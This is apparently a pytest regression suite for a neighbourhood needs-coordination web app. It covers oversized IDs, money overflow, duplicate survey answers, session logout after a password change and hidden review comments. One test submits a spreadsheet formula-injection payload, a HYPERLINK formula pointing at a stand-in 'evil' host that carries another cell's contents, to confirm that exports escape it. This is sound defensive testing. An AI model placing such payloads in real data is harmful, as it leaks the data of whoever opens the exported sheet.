"""Regression tests for defects found in review: out-of-range numbers, spreadsheet formulas,
a second survey answer through a code, money overflow, sessions after a password change,
review comments before acceptance."""

import io

import pandas as pd
import pytest

from tests.conftest import csrf_token, login


@pytest.mark.parametrize("url", ["/api/v1/needs/99999999999999999999", "/needs/3000000000", "/units/99999999999999",
                                 "/api/v1/surveys/99999999999999999999", "/needs/photos/99999999999999999999",
                                 "/needs?category_id=99999999999999999999&page=99999999999999999999",
                                 "/projects?unit_id=99999999999999999999", "/dashboard?area_id=99999999999999999999",
                                 "/api/v1/needs?place_id=99999999999999999999"])
def test_huge_numbers_are_never_a_server_error(client, url):
    assert client.get(url).status_code in (200, 400, 404)


def test_huge_ids_in_bodies_are_refused_by_field(client, api_token):
    response = client.post("/api/v1/needs", headers=api_token("resident"), json={
        "kind": "wish", "title": "t", "description": "d", "place_id": 99999999999999999999})
    assert response.status_code == 400 and "place_id" in response.json["error"]["fields"]


def test_money_beyond_the_columns_is_refused(client, api_token, db):
    from tests.factories import build

    project = build(db, "claimed")
    response = client.post(f"/api/v1/projects/{project.id}/progress", headers=api_token("unit_rep"),
                           json={"percent": 10, "note": "x", "spent": 1e12, "volunteer_hours": 1e12})
    assert response.status_code == 400
    assert {"spent", "volunteer_hours"} <= set(response.json["error"]["fields"])


def test_exports_do_not_carry_spreadsheet_formulas(client, client_as, api_token, db):
    from sqlalchemy import select

    from coordination.places.models import Place

    place_id = db.session.scalar(select(Place.id).where(Place.name == "福山居民区"))
    client.post("/api/v1/needs", headers=api_token("resident"), json={
        "kind": "wish", "title": '=HYPERLINK("http://evil/?"&L2,"详情")', "description": "+cmd", "place_id": place_id})
    workbook = pd.read_excel(io.BytesIO(client_as("staff").get("/exports/needs.xlsx").data), dtype=str)
    assert workbook["标题"].iloc[0].startswith("'=HYPERLINK")
    assert workbook["描述"].iloc[0] == "'+cmd"


def test_an_account_holder_cannot_answer_twice_with_a_code(client, api_token, db):
    from tests.factories import build

    project = build(db, "completed")
    survey_id = client.post(f"/api/v1/projects/{project.id}/evaluation/open", json={},
                            headers=api_token("staff")).json["survey_id"]
    survey = client.get(f"/api/v1/surveys/{survey_id}", headers=api_token("worker")).json
    overall = next(q["id"] for q in survey["questions"] if q["overall"])
    code = client.post(f"/api/v1/surveys/{survey_id}/invites", json={"count": 1},
                       headers=api_token("staff")).json["codes"][0]
    body = {"answers": [{"question_id": overall, "score": 5}]}
    assert client.post(f"/api/v1/surveys/{survey_id}/responses", json=body,
                       headers=api_token("worker")).status_code == 201
    again = client.post(f"/api/v1/surveys/{survey_id}/responses", json={**body, "invite_code": code},
                        headers=api_token("worker"))
    assert again.status_code == 409


def test_changing_the_password_logs_out_other_sessions(app, client, db):
    other_device = app.test_client()
    assert login(other_device, "resident").status_code == 302
    assert login(client, "resident").status_code == 302
    token = csrf_token(client, "/me/password")
    response = client.post("/me/password", data={"csrf_token": token, "current": "Ribbon-2026",
                                                 "password": "Xin-Mima-2027", "confirm": "Xin-Mima-2027"})
    assert response.status_code == 302
    assert other_device.get("/me").status_code == 302  # sent to the login page
    assert client.get("/me").status_code == 200  # this browser stays logged in


def test_rework_comments_are_not_public_before_acceptance(client, api_token, db):
    from tests.factories import build

    project = build(db, "completed")
    survey_id = client.post(f"/api/v1/projects/{project.id}/evaluation/open", json={},
                            headers=api_token("staff")).json["survey_id"]
    client.post(f"/api/v1/projects/{project.id}/evaluation/review",
                json={"decision": "rework", "comment": "样本太少，内部意见"}, headers=api_token("street_committee"))
    assert client.get(f"/api/v1/projects/{project.id}/evaluation").json["review"] is None
    assert "内部意见" not in client.get(f"/projects/{project.id}/evaluation").get_data(as_text=True)
    assert survey_id
